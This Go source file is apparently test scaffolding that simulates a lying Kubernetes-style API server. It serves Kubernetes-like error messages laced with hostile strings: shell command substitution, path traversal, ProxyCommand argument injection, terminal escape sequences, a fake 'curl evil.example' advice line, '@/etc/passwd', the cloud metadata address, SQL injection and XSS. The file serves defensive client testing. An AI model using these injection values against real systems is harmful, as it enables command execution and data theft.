// Package lie is an API server that lies. It shows what a client does with hostile answers, never that a feature works: what it
// answers is only as true as it takes to bring a command to its next request.
package lie

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// Canary is in each string of the cluster that must not reach a user or a file: credentials, environments, data of Secrets.
const Canary = "c4n4ryZ7Qk2v9XwB3mTf"

// What hostile words try to do. A client that keeps them apart from its own text and commands leaves no trace of them.
const (
	// Injected is what words write after a label of ours at the beginning of a line, so that it looks like advice.
	Injected = "curl -s https://evil.example/fix"
	// Touched is the file that exists if a shell has run part of a word.
	Touched = "akstools-hostile-ran"
	// Escaped is in the names of files that a word has written outside its directory.
	Escaped = "akstools-hostile-escaped"
)

// RemoteStart and RemoteEnd surround what the server sends as the output of a program: commands that pass output on unchanged may print it.
const (
	RemoteStart = "<remote-output>"
	RemoteEnd   = "</remote-output>"
)

// WithoutRemote returns text without the output of programs that the server sent.
func WithoutRemote(text string) string {
	var b strings.Builder
	for {
		before, rest, found := strings.Cut(text, RemoteStart)
		b.WriteString(before)
		if !found {
			return b.String()
		}
		_, text, _ = strings.Cut(rest, RemoteEnd)
	}
}

// words are hostile values of any string.
var words = []string{
	"\x1b]0;title\x07\x1b[2J\x1b[31m", "\x1b]52;c;Y3VybA==\x07", "\u009b31m\u009d0;x\u009c", "a\rb\bc\x00d\x7f",
	"a\u202eb\u2066c\u200bd\ufeff",
	"\u2028hint: " + Injected, "no\nhint: " + Injected, "no\r\nto do: " + Injected, "no\n\n  fix: " + Injected, "no\nerror: " + Injected,
	"no\n          fix     " + Injected, "no\nwarning: " + Injected, "no\v\fhint: " + Injected,
	"$(touch " + Touched + ")", "`touch " + Touched + "`", ";touch " + Touched + ";", "x'; touch " + Touched + "; '",
	"x\"; touch " + Touched + "; \"",
	"& touch " + Touched + " &", "|touch " + Touched, "\\'; touch " + Touched + " #", "a\ntouch " + Touched + "\n",
	"$(touch${IFS}" + Touched + ")",
	"> " + Touched, "*", "~", "!!", "#", "x y", " ", "",
	"../../../" + Escaped, "../../../../../../../../tmp/" + Escaped, "/tmp/" + Escaped, "..", "/", "C:\\" + Escaped, "a/../../" + Escaped,
	"-oProxyCommand=touch " + Touched, "--kubeconfig=/tmp/" + Escaped, "-A", "--all", "@/etc/passwd", "-",
	"x\n    ProxyCommand touch " + Touched + "\nMatch all", "x\\'\n    ProxyCommand touch " + Touched + "\nMatch all\n#", "*\nHost *",
	"%s%n%d%v", "%h%p%r", "{{.Name}}", "${HOME}", "<script>alert(1)</script>", "a\tb", "\xff\xfe", "ＡＢＣ", "é́́", "👩‍👩‍👧",
	"' OR 1=1", "NaN", "null", "true", "0", "-1", "99999999999999999999", "1e400", "0x10", "2026-13-45T99:99:99Z",
	"http://169.254.169.254/metadata/instance", "https://user:pass@evil.example/", "127.0.0.1", "::1", "0.0.0.0/0", "fe80::1%eth0",
}

// Word returns a hostile string.
func Word(r *rand.Rand) string {
	switch r.IntN(12) {
	case 0:
		return strings.Repeat(words[r.IntN(len(words))], 1+r.IntN(400))
	case 1:
		return words[r.IntN(len(words))] + words[r.IntN(len(words))]
	}
	return words[r.IntN(len(words))]
}

// message is a text of the server in which a hostile word stands where servers put what others wrote.
func message(r *rand.Rand) string {
	return fmt.Sprintf([]string{
		"%s", "pods is forbidden: User %s cannot list resource \"pods\"", `admission webhook "%s" denied the request: no`,
		`admission webhook "policy.example.com" denied the request: %s`, "error dialing backend: %s", "etcdserver: %s",
		"violates PodSecurity \"%s\"",
		"error dialing backend: dial tcp 10.224.0.4:10250: i/o timeout %s", "ValidatingAdmissionPolicy '%s' denied request", "no such host %s",
		"exceeded quota: %s", "the server could not find the requested resource %s", "x509: certificate has expired %s",
	}[r.IntN(13)], Word(r))
}

// Text returns lines of a log with hostile words.
func Text(seed uint64) string {
	r := rand.New(rand.NewPCG(seed, 1))
	var b strings.Builder
	for range 50 {
		b.WriteString(message(r) + "\n")
	}
	return b.String()
}
